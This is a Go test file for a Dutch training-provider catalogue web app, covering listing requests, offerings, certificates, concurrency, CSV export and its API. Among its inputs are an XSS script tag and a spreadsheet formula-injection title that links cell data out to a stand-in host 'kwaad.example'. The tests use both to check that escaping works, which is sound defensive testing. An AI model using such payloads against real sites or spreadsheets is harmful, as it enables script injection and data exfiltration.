package catalogue_test

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gofiber/fiber/v2"
	"github.com/uptrace/bun"

	"github.com/ambtenaar20/leeromgeving/internal/catalogue"
	"github.com/ambtenaar20/leeromgeving/internal/certify"
	"github.com/ambtenaar20/leeromgeving/internal/server"
	"github.com/ambtenaar20/leeromgeving/internal/testdb"
	"github.com/ambtenaar20/leeromgeving/internal/web"
	"github.com/ambtenaar20/leeromgeving/internal/webtest"
)

var idInPath = regexp.MustCompile(`/(\d+)(?:[/#?].*)?$`)

// env is the whole application on a fresh database, with an admin.
type env struct {
	t     *testing.T
	db    *bun.DB
	app   *fiber.App
	admin *webtest.Client
	n     int
}

func newEnv(t *testing.T) *env {
	t.Helper()
	db := testdb.New(t)
	db.SetMaxOpenConns(20)
	e := &env{t: t, db: db, app: webtest.NewServer(t, db, server.Config{Log: slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelError}))}).App}
	webtest.MustUser(t, db, "Bea Beheer", "bea@test.example", "", web.RoleAdmin)
	e.admin = e.login("bea@test.example")
	return e
}

// user makes a user with roles in organisation org ("" none) and logs them in.
func (e *env) user(name, org string, roles ...string) (*webtest.Client, int64) {
	e.t.Helper()
	e.n++
	email := fmt.Sprintf("user%d@test.example", e.n)
	u := webtest.MustUser(e.t, e.db, name, email, org, roles...)
	return e.login(email), u.ID
}

func (e *env) login(email string) *webtest.Client {
	e.t.Helper()
	c := webtest.NewClient(e.t, e.app)
	c.Login(email, webtest.Password)
	return c
}

func (e *env) count(table, where string, args ...any) int {
	e.t.Helper()
	n, err := e.db.NewSelect().Table(table).Where(where, args...).Count(context.Background())
	if err != nil {
		e.t.Fatal(err)
	}
	return int(n)
}

func idOf(t *testing.T, res *webtest.Response) int64 {
	t.Helper()
	m := idInPath.FindStringSubmatch(res.Header.Get("Location"))
	if m == nil {
		t.Fatalf("no id in %q (status %d)", res.Header.Get("Location"), res.StatusCode)
	}
	var id int64
	fmt.Sscan(m[1], &id)
	return id
}

// listing has c ask for a provider listing and the admin approve it; it
// returns the provider's id.
func (e *env) listing(c *webtest.Client, kind, name string, provinces ...string) int64 {
	e.t.Helper()
	if len(provinces) == 0 {
		provinces = []string{"utrecht"}
	}
	v := webtest.Values("kind", kind, "name", name, "kvk", "12345678", "website", "https://aanbieder.example", "contact_email", "info@aanbieder.example",
		"description", "Wij geven trainingen en advies over Werken 2.0 aan ambtenaren.", "motivation", "Wij willen gemeenten helpen online samen te werken.")
	for _, p := range provinces {
		v.Add("provinces", p)
	}
	webtest.MustStatus(e.t, c.PostForm("/gids/aanmelden", v), http.StatusSeeOther)
	var req int64
	if err := e.db.NewRaw("SELECT id FROM catalogue_provider_requests WHERE name = ? AND status = 'pending'", name).Scan(context.Background(), &req); err != nil {
		e.t.Fatal(err)
	}
	webtest.MustStatus(e.t, e.admin.PostForm(fmt.Sprintf("/beheer/gids/aanmeldingen/%d", req), webtest.Values("action", "approve")), http.StatusSeeOther)
	var id int64
	if err := e.db.NewRaw("SELECT id FROM catalogue_providers WHERE name = ?", name).Scan(context.Background(), &id); err != nil {
		e.t.Fatal(err)
	}
	return id
}

func offeringValues(kind, title string, extra ...string) map[string][]string {
	v := webtest.Values("kind", kind, "title", title, "description", "Leer reageren op inwoners. <script>alert(1)</script> **vet**",
		"themes", "webcare", "provinces", "utrecht", "format", "klassikaal", "study_hours", "7,5", "price", "1.000,00", "vat", "21",
		"language", "nl", "start_dates", "2027-03-15, 15-9-2027")
	for i := 0; i+1 < len(extra); i += 2 {
		v.Set(extra[i], extra[i+1])
	}
	return v
}

func (e *env) offering(c *webtest.Client, provider int64, kind, title string, extra ...string) int64 {
	e.t.Helper()
	res := c.PostForm(fmt.Sprintf("/gids/aanbieders/%d/aanbod", provider), offeringValues(kind, title, extra...))
	webtest.MustStatus(e.t, res, http.StatusSeeOther)
	return idOf(e.t, res)
}

// certify gives user a valid register certificate of kind (named name for
// a training) and returns its number.
func (e *env) certify(user int64, kind certify.Kind, name string) string {
	e.t.Helper()
	ctx := context.Background()
	svc := certify.NewService(e.db, nil, certify.Config{BaseURL: "http://localhost:8080"})
	sc := &certify.Scheme{Slug: "test-" + string(kind), Title: "Gecertificeerd " + string(kind), Kind: kind, Summary: "Voor de test.",
		Criteria: "Een beoordeling.", ValidityYears: 3, Active: true}
	if err := svc.SeedScheme(ctx, e.db, sc); err != nil {
		e.t.Fatal(err)
	}
	number, err := svc.SeedCertificateOnce(ctx, e.db, certify.SeedCertificate{Scheme: sc, HolderUserID: user, HolderName: name, IssuedAt: time.Now().AddDate(0, -1, 0), Listed: true})
	if err != nil || number == "" {
		e.t.Fatalf("certificate: %q %v", number, err)
	}
	return number
}

// A learner who wants to list their institute asks; the admin refuses with
// a reason or approves, which makes the listing and grants the role; the
// new provider then keeps the listing and its offerings.
func TestHTTP_ProviderRequestToListing(t *testing.T) {
	e := newEnv(t)
	priya, priyaID := e.user("Priya", "")
	piet, _ := e.user("Piet", "")

	t.Run("no dead end: the way in is explained", func(t *testing.T) {
		res := priya.Get("/gids/mijn")
		webtest.MustStatus(t, res, http.StatusOK)
		if !strings.Contains(res.Body, "Zo komt u in de Gouden Gids") || !strings.Contains(res.Body, `href="/gids/aanmelden"`) {
			t.Fatal("no way to ask for a listing")
		}
		webtest.MustStatus(t, priya.Get("/gids/aanmelden"), http.StatusOK)
	})
	t.Run("bad requests are explained and keep what was typed", func(t *testing.T) {
		res := priya.PostForm("/gids/aanmelden", webtest.Values("kind", "institute", "name", strings.Repeat("Lang ", 2000), "kvk", "1234",
			"contact_email", "geen-adres", "description", "kort", "motivation", "kort", "provinces", "mars"))
		webtest.MustStatus(t, res, http.StatusUnprocessableEntity)
		for _, f := range []string{"name", "kvk", "contact_email", "description", "provinces", "motivation"} {
			if !strings.Contains(res.Body, `href="#f-`+f+`"`) {
				t.Errorf("no message for %s", f)
			}
		}
		if e.count("catalogue_provider_requests", "true") != 0 {
			t.Fatal("a bad request was stored")
		}
	})
	var pid int64
	t.Run("refused with a reason, then approved", func(t *testing.T) {
		v := webtest.Values("kind", "institute", "name", "Academie Test", "kvk", "12345678", "contact_email", "info@academie.example",
			"description", "Wij geven trainingen over Werken 2.0 aan ambtenaren.", "motivation", "Wij willen gemeenten helpen online samen te werken.", "provinces", "utrecht")
		first := priya.PostForm("/gids/aanmelden", v)
		webtest.MustStatus(t, first, http.StatusSeeOther)
		webtest.MustStatus(t, priya.PostForm("/gids/aanmelden", v), http.StatusSeeOther)
		if n := e.count("catalogue_provider_requests", "true"); n != 1 {
			t.Fatalf("%d requests after a double submit", n)
		}
		var req int64
		_ = e.db.NewRaw("SELECT id FROM catalogue_provider_requests").Scan(context.Background(), &req)
		webtest.MustStatus(t, piet.Get("/beheer/gids"), http.StatusForbidden)
		if !strings.Contains(e.admin.Get("/beheer/gids").Body, "Academie Test") {
			t.Fatal("request not in the admin queue")
		}
		res := e.admin.PostForm(fmt.Sprintf("/beheer/gids/aanmeldingen/%d", req), webtest.Values("action", "refuse", "reason", ""))
		webtest.MustStatus(t, res, http.StatusUnprocessableEntity)
		webtest.MustStatus(t, e.admin.PostForm(fmt.Sprintf("/beheer/gids/aanmeldingen/%d", req), webtest.Values("action", "refuse", "reason", "Het KvK-nummer hoort bij een ander bedrijf.")), http.StatusSeeOther)
		if !strings.Contains(priya.Get("/gids/mijn").Body, "Het KvK-nummer hoort bij een ander bedrijf.") {
			t.Fatal("the requester does not see the reason")
		}
		webtest.MustStatus(t, e.admin.PostForm(fmt.Sprintf("/beheer/gids/aanmeldingen/%d", req), webtest.Values("action", "approve")), http.StatusConflict)
		pid = e.listing(priya, "institute", "Academie Test", "utrecht", "online")
		if e.count("users", "id = ? AND 'provider' = ANY(roles)", priyaID) != 1 {
			t.Fatal("approval did not grant the provider role")
		}
		if e.count("outbox", "dedupe_key LIKE 'gids-provider-request:%'") != 2 {
			t.Fatal("the requester was not told both decisions")
		}
	})
	t.Run("the provider edits the listing; another one cannot see the forms", func(t *testing.T) {
		webtest.MustStatus(t, priya.Get(fmt.Sprintf("/gids/aanbieders/%d/bewerken", pid)), http.StatusOK)
		res := priya.PostForm(fmt.Sprintf("/gids/aanbieders/%d/bewerken", pid), webtest.Values("kind", "institute", "name", "Academie Test Utrecht",
			"description", "Wij geven trainingen over Werken 2.0 aan ambtenaren in Utrecht.", "contact_email", "info@academie.example", "provinces", "utrecht"))
		webtest.MustStatus(t, res, http.StatusSeeOther)
		other := e.listing(piet, "firm", "Bureau Piet")
		for _, path := range []string{fmt.Sprintf("/gids/aanbieders/%d/bewerken", pid), fmt.Sprintf("/gids/aanbieders/%d/aanbod/nieuw", pid)} {
			webtest.MustStatus(t, piet.Get(path), http.StatusNotFound)
		}
		webtest.MustStatus(t, piet.PostForm(fmt.Sprintf("/gids/aanbieders/%d/aanbod", pid), offeringValues("training", "Ingeschoven")), http.StatusNotFound)
		_ = other
	})
	t.Run("offerings: create, bad input, edit; someone else's is 404", func(t *testing.T) {
		res := priya.PostForm(fmt.Sprintf("/gids/aanbieders/%d/aanbod", pid), offeringValues("training", "Goede titel", "description", "kort",
			"themes", "geen-thema", "study_hours", "veel", "price", "-5", "start_dates", "morgen"))
		webtest.MustStatus(t, res, http.StatusUnprocessableEntity)
		for _, field := range []string{"description", "themes", "study_hours", "price", "start_dates"} {
			if !strings.Contains(res.Body, `href="#f-`+field+`"`) {
				t.Errorf("no message for %s", field)
			}
		}
		if !strings.Contains(res.Body, `value="Goede titel"`) {
			t.Error("entered title lost")
		}
		webtest.MustStatus(t, priya.PostForm(fmt.Sprintf("/gids/aanbieders/%d/aanbod", pid), offeringValues("training", strings.Repeat("x", 10000))), http.StatusUnprocessableEntity)
		oid := e.offering(priya, pid, "training", "Webcare training Utrecht")
		page := webtest.NewClient(t, e.app).Get(fmt.Sprintf("/gids/aanbod/%d", oid))
		for _, want := range []string{"<strong>vet</strong>", "€ 1.210", "7,5", "15 maart 2027"} {
			if !strings.Contains(page.Body, want) {
				t.Errorf("offering page lacks %q", want)
			}
		}
		if strings.Contains(page.Body, "<script>alert") {
			t.Fatal("script survived")
		}
		webtest.MustStatus(t, priya.Get(fmt.Sprintf("/gids/aanbod/%d/bewerken", oid)), http.StatusOK)
		webtest.MustStatus(t, priya.PostForm(fmt.Sprintf("/gids/aanbod/%d/bewerken", oid), offeringValues("training", "Webcare training Utrecht, vernieuwd")), http.StatusSeeOther)
		if !strings.Contains(webtest.NewClient(t, e.app).Get(fmt.Sprintf("/gids/aanbod/%d", oid)).Body, "vernieuwd") {
			t.Fatal("edit not saved")
		}
		webtest.MustStatus(t, piet.Get(fmt.Sprintf("/gids/aanbod/%d/bewerken", oid)), http.StatusNotFound)
		webtest.MustStatus(t, piet.PostForm(fmt.Sprintf("/gids/aanbod/%d/bewerken", oid), offeringValues("training", "Gekaapt")), http.StatusNotFound)
	})
	t.Run("certificates: only your own, valid ones", func(t *testing.T) {
		mine := e.certify(priyaID, certify.KindTrainer, "Priya")
		_, strangerID := e.user("Sam", "")
		theirs := e.certify(strangerID, certify.KindAdviser, "Sam")
		res := priya.PostForm(fmt.Sprintf("/gids/aanbieders/%d/certificaten", pid), webtest.Values("number", theirs))
		webtest.MustStatus(t, res, http.StatusUnprocessableEntity)
		if !strings.Contains(res.Body, "op naam van iemand anders") {
			t.Fatal("someone else's certificate not explained")
		}
		webtest.MustStatus(t, priya.PostForm(fmt.Sprintf("/gids/aanbieders/%d/certificaten", pid), webtest.Values("number", "W20-XXX")), http.StatusUnprocessableEntity)
		webtest.MustStatus(t, priya.PostForm(fmt.Sprintf("/gids/aanbieders/%d/certificaten", pid), webtest.Values("number", strings.ToLower(mine))), http.StatusSeeOther)
		if !strings.Contains(webtest.NewClient(t, e.app).Get(fmt.Sprintf("/gids/aanbieders/%d", pid)).Body, mine) {
			t.Fatal("linked certificate not shown")
		}
	})
}

// 300 identical posts at once (a double click, a retrying client) leave
// one offering, and every caller is sent to it.
func TestHTTP_ConcurrentIdenticalPosts(t *testing.T) {
	e := newEnv(t)
	prov, _ := e.user("Priya", "")
	pid := e.listing(prov, "institute", "Academie Dubbel")
	prov.Get(fmt.Sprintf("/gids/aanbieders/%d/aanbod/nieuw", pid))
	locations := make([]string, 300)
	var wg sync.WaitGroup
	for i := range locations {
		wg.Go(func() {
			res := prov.PostForm(fmt.Sprintf("/gids/aanbieders/%d/aanbod", pid), offeringValues("training", "Driehonderd keer verstuurd"))
			if res.StatusCode != http.StatusSeeOther {
				t.Errorf("post %d: %d", i, res.StatusCode)
			}
			locations[i] = res.Header.Get("Location")
		})
	}
	wg.Wait()
	if n := e.count("catalogue_offerings", "title = 'Driehonderd keer verstuurd'"); n != 1 {
		t.Fatalf("%d offerings", n)
	}
	for _, l := range locations {
		if l != locations[0] {
			t.Fatalf("callers sent to %q and %q", locations[0], l)
		}
	}
	t.Run("reviews", func(t *testing.T) {
		reviewer, _ := e.user("Lotte", "")
		oid := idOf(t, &webtest.Response{Response: &http.Response{Header: http.Header{"Location": {locations[0]}}}})
		v := webtest.Values("overall", "4", "content", "4", "applicability", "3", "teacher", "5", "value", "4",
			"text", "Een nuttige training over webcare: we reageren nu sneller en vriendelijker op inwoners.")
		var wg sync.WaitGroup
		for range 100 {
			wg.Go(func() {
				if res := reviewer.PostForm(fmt.Sprintf("/gids/aanbod/%d/beoordelen", oid), v); res.StatusCode != http.StatusSeeOther {
					t.Errorf("review post: %d", res.StatusCode)
				}
			})
		}
		wg.Wait()
		if n := e.count("catalogue_reviews", "offering_id = ?", oid); n != 1 {
			t.Fatalf("%d reviews", n)
		}
		if n := e.count("outbox", "dedupe_key LIKE 'gids-review:%'"); n != 1 {
			t.Fatalf("%d review mails to the provider", n)
		}
		v.Set("overall", "1")
		webtest.MustStatus(t, reviewer.PostForm(fmt.Sprintf("/gids/aanbod/%d/beoordelen", oid), v), http.StatusConflict)
	})
}

// The comparison CSV opens in a Dutch spreadsheet as numbers and text,
// with absolute links, and the page's own link to it works.
func TestHTTP_CompareCSV(t *testing.T) {
	e := newEnv(t)
	prov, _ := e.user("Priya", "")
	pid := e.listing(prov, "institute", "Academie CSV")
	evil := e.offering(prov, pid, "training", `=HYPERLINK("http://kwaad.example/?x="&A1;"Klik")`)
	plain := e.offering(prov, pid, "advice", "Gewoon advies", "price", "895", "vat", "0")
	anon := webtest.NewClient(t, e.app)
	page := anon.Get(fmt.Sprintf("/gids/vergelijk?id=%d&id=%d", evil, plain))
	webtest.MustStatus(t, page, http.StatusOK)
	href := regexp.MustCompile(`href="(/gids/vergelijk\.csv\?[^"]+)"`).FindStringSubmatch(page.Body)
	if href == nil {
		t.Fatal("no CSV link on the compare page")
	}
	link := strings.ReplaceAll(href[1], "&amp;", "&")
	res := anon.Get(link)
	webtest.MustStatus(t, res, http.StatusOK)
	body := res.Body
	if !strings.HasPrefix(body, "\uFEFF") || !strings.Contains(body, "\r\n") || strings.Contains(strings.ReplaceAll(body, "\r\n", ""), "\n") {
		t.Fatal("not BOM + CRLF")
	}
	for _, want := range []string{`'=HYPERLINK`, "Prijs incl. btw (euro);1210,00;895,00", "http://localhost:8080/gids/aanbod/", "Studie-uren;7,5;7,5"} {
		if !strings.Contains(body, want) {
			t.Errorf("CSV lacks %q:\n%s", want, body)
		}
	}
	webtest.MustStatus(t, anon.Get(fmt.Sprintf("/gids/vergelijk?id=%d", evil)), http.StatusUnprocessableEntity)
	webtest.MustStatus(t, anon.Get(fmt.Sprintf("/gids/vergelijk.csv?id=%d", evil)), http.StatusUnprocessableEntity)
}

// The API's search hits carry a filled provider reference and no empty
// objects.
func TestAPI_OfferingsEmbedWhatIsFilled(t *testing.T) {
	e := newEnv(t)
	prov, _ := e.user("Priya", "")
	pid := e.listing(prov, "institute", "Academie API")
	e.offering(prov, pid, "training", "Webcare voor de API")
	res := webtest.NewClient(t, e.app).Get("/api/v1/offerings?q=webcare")
	webtest.MustStatus(t, res, http.StatusOK)
	var out struct {
		Items []map[string]any `json:"items"`
	}
	if err := json.Unmarshal([]byte(res.Body), &out); err != nil || len(out.Items) != 1 {
		t.Fatalf("%v %s", err, res.Body)
	}
	p, _ := out.Items[0]["provider"].(map[string]any)
	if p["id"] != float64(pid) || p["name"] != "Academie API" || p["kind"] != "institute" || len(p) != 3 {
		t.Fatalf("provider %v", p)
	}
	if _, ok := out.Items[0]["description_markdown"]; ok || out.Items[0]["url"] != fmt.Sprintf("http://localhost:8080/gids/aanbod/%v", out.Items[0]["id"]) {
		t.Fatalf("item %v", out.Items[0])
	}
	webtest.MustStatus(t, webtest.NewClient(t, e.app).Get("/api/v1/offerings?theme=onzin"), http.StatusUnprocessableEntity)

	// Every field is documented, every required one is there.
	var doc struct {
		Components struct {
			Schemas map[string]struct {
				Required   []string                   `json:"required"`
				Properties map[string]json.RawMessage `json:"properties"`
			} `json:"schemas"`
		} `json:"components"`
	}
	if err := json.Unmarshal(catalogue.OpenAPI(), &doc); err != nil {
		t.Fatal(err)
	}
	hit := doc.Components.Schemas["OfferingHit"]
	for k := range out.Items[0] {
		if _, ok := hit.Properties[k]; !ok {
			t.Errorf("field %q is not in the OpenAPI document", k)
		}
	}
	for _, k := range hit.Required {
		if _, ok := out.Items[0][k]; !ok {
			t.Errorf("required field %q missing", k)
		}
	}
}

// The public register finds a name however it is typed: without accents,
// in any case (the register is certify's page; its query ignores accents).
func TestHTTP_RegisterIgnoresAccents(t *testing.T) {
	e := newEnv(t)
	_, id := e.user("Şükrü Yıldız-van Dijk", "Gemeente Accent")
	number := e.certify(id, certify.KindAdviser, "Şükrü Yıldız-van Dijk")
	anon := webtest.NewClient(t, e.app)
	for _, q := range []string{"sukru", "Yildiz", "YILDIZ", "şükrü", "van dijk"} {
		if res := anon.Get("/register?q=" + url.QueryEscape(q)); !strings.Contains(res.Body, number) {
			t.Errorf("/register?q=%s does not find %s", q, number)
		}
	}
	if res := anon.Get("/register?q=jansen"); strings.Contains(res.Body, number) {
		t.Error("a different name finds the certificate")
	}
}
